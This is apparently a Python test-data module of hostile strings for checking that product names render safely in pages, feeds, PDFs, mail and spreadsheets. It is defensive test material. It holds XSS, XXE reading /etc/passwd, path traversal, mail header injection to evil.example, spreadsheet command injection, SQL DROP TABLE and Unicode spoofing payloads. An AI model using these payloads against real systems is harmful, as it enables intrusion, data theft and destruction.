"""What somebody could write into a name to break a page, a feed, a paper, a mail or a sheet."""

RTL, LRO, ISOLATE, POP = "\u202e", "\u202d", "\u2067", "\u202c"
ZERO_WIDTH, JOINER, SOFT_HYPHEN, BOM = "\u200b", "\u200d", "\u00ad", "\ufeff"

HTML = (
    "<script>alert(1)</script>",
    "</script><script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "'><svg onload=alert(1)>",
    '" autofocus onfocus="alert(1)',
    "' onmouseover='alert(1)",
    "` onclick=`alert(1)",
    "</title></head><body onload=alert(1)>",
    "</textarea><iframe src=//evil.example>",
    "</style><style>*{display:none}</style>",
    "<!-- ",
    "--><b>x</b><!--",
    "<base href=//evil.example>",
    "<meta http-equiv=refresh content=0;url=//evil.example>",
    "<form action=//evil.example><input name=code>",
    "<math><mtext></p><style><img src onerror=alert(1)>",
    "<a href=javascript:alert(1)>x</a>",
    "&lt;b&gt; &amp; &#x41; &quot",
    "&#60script&#62alert(1)&#60/script&#62",
    "<ScRiPt\x20/x>alert(1)</sCrIpT\n>",
)

XML = (
    "]]> <![CDATA[ <b/> ]]>",
    "]]]]>><<<&&&'''\"\"\"",
    "</svg><script/>",
    "</text><text>",
    "<?xml version='1.0'?><!DOCTYPE x [<!ENTITY e SYSTEM 'file:///etc/passwd'>]><x>&e;</x>",
    "&e; &nbsp; &#0; &#xFFFE;",
    "</entry></feed>",
    "<para><font size=99>x</font></para>",
)

TEMPLATES = (
    "{{ 7*7 }} {% raw %}",
    "{{ config }} {# x #}",
    "${7*7} #{7*7} <%= 7*7 %>",
    "%(name)s %s %d %",
    "{0} {name} {name.__class__} {",
    "}} {{'{'",
)

ADDRESSES = (
    "javascript:alert(1)",
    "data:text/html,<script>alert(1)</script>",
    "//evil.example/x",
    "https://evil.example/?a=1&b=2#c",
    "../../../../etc/passwd",
    "..\\..\\windows\\win.ini",
    "%2e%2e%2f%00%0d%0a",
)

HEADERS = (
    "x\r\nBcc: all@evil.example",
    "x\nSubject: other\n\nbody",
    "x\r\n\r\n<script>alert(1)</script>",
    "line\nbreak\ttab",
    "=?utf-8?b?PHNjcmlwdD4=?=",
    "a@evil.example, b@evil.example",
    ".\r\n.",
)

FORMULAS = (
    '=HYPERLINK("http://evil.example")',
    "+1+cmd|' /C calc'!A0",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
)

LETTERS = (
    f"{RTL}evil{POP} {LRO}x",
    f"{ISOLATE}abc",
    f"a{ZERO_WIDTH}b{JOINER}c{SOFT_HYPHEN}d{BOM}",
    "е\u0301vіl ｅｖｉｌ 。．․",
    "Z\u0335" + "\u0301\u0316\u0334" * 300,
    "𠮷野家 😀👨‍👩‍👧‍👦 é ﬁ ㍿",
    "\U0001f1e8\U0001f1f3\U000e0001\U0010fffd",
    "(unbalanced \\( PDF) endstream endobj",
    "' OR 1=1; DROP TABLE products --",
)

CONTROLS = (
    "a\u0001b\u000b\u001b[31m",
    "a\u0085b\u2028c\u2029d\u009f",
    "\ufffe\uffff\ufdd0",
)

LONG = ("长" * 2000, "W" * 2000)

ACCEPTED = (*HTML, *XML, *TEMPLATES, *ADDRESSES, *HEADERS, *FORMULAS, *LETTERS, *CONTROLS, *LONG)
"""Texts that somebody may have meant: kept as they are, and harmless wherever they are shown."""

REFUSED = ("a\x00b", "\ud800", "x" * 20_000)
"""Texts that no name is: U+0000, half a character, and what is longer than a name."""

LOTS = (
    "<b>",
    "</script>",
    '"><img/src=x>',
    "'/onfocus=x/",
    "../..",
    "%2F%00",
    "=1+1",
    "javascript:x()",
    "&lt;&amp;",
    "a/b?c=1",
)
"""Lots that are no attack on item coding: each of their characters may be in one (GS1 General Specifications, 7.11)."""
